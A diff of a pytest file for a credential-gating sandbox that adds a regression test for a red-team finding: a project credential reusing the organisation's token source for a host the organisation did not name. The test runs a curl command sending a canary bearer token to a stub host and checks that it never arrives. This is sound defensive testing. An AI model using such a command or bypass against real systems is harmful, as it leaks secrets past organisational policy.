@@ -1,7 +1,9 @@
 """Issue 16: requests through the real gate under an organisation policy, as root and as an
 unprivileged user. The stub server's request log is the oracle: what the organisation denies
-never reaches it, however the project or the step spells it."""
+never reaches it, however the project or the step spells it; nor does the org's credential
+reach a host the org did not name."""
 
+import json
 import os
 import shutil
 import tempfile
@@ -9,8 +11,8 @@ from pathlib import Path
 
 import pytest
 
-from gatekit import hostport, servers
-from harness import attacker  # noqa: F401  (the fixture)
+from gatekit import hostport, netproject, servers
+from harness import CANARY, attacker  # noqa: F401  (the fixture)
 
 pytestmark = [
     pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed"),
@@ -89,3 +91,36 @@ def test_the_orgs_request_rules_come_first(world):
                      f"{CURL} https://{gql_hp}/q\necho done\n", timeout=120)
     assert "done" in r.stdout, r.stdout + r.stderr
     assert [(q["method"], q["path"]) for q in stub.requests] == [("GET", "/get")], stub.requests
+
+
+def test_the_orgs_credential_source_is_not_sent_to_a_host_the_org_did_not_name(attacker):
+    """The red team's case (round 16): the organisation defines a credential (`gh`: the real
+    value of $MY_TOKEN, sent only to the org's git host). A project may not redefine `gh`, but
+    it defined its own credential `mine` over the same source (`from: {env: MY_TOKEN}`) for
+    another host it allows: the org's token went where the org never said. The merge
+    (policy/org.py) refused only a redefinition of the name, a source the org's
+    env.deny/deny_read covers, or a host its network.deny names. The oracle: the second server
+    (the stub) receives the real token (the canary)."""
+    with servers() as (git, stub):
+        d = tempfile.mkdtemp(prefix="envgit-org-")
+        os.chmod(d, 0o755)
+        org = Path(d) / "policy.yaml"
+        org.write_text("version: 1\ncredentials:\n  gh:\n    from: {env: MY_TOKEN}\n"
+                       f"    hosts: [\"{hostport(git)}\"]\n")
+        org.chmod(0o644)
+        try:
+            attacker.env["MY_TOKEN"] = CANARY
+            attacker.env["ENVGIT_ORG_POLICY"] = str(org)
+            hp = hostport(stub, "stub.example.test")
+            netproject(attacker, git, stub, "irreversible: []\n"
+                       f"credentials:\n  mine:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hp}\"]\n")
+            r = attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" https://{hp}/x; "
+                             "echo ran")
+            assert "ran" in r.stdout or r.returncode == 125, r.stdout + r.stderr
+            got = [q for q in stub.requests if CANARY in json.dumps({k: v for k, v in q.items() if k != "body"})]
+            assert not got, ("the org's credential gh (its source MY_TOKEN, for "
+                             f"{hostport(git)} only) reached {hp} through the project's credential "
+                             f"'mine': {got[:1]}")
+        finally:
+            attacker.stop()
+            shutil.rmtree(d, ignore_errors=True)
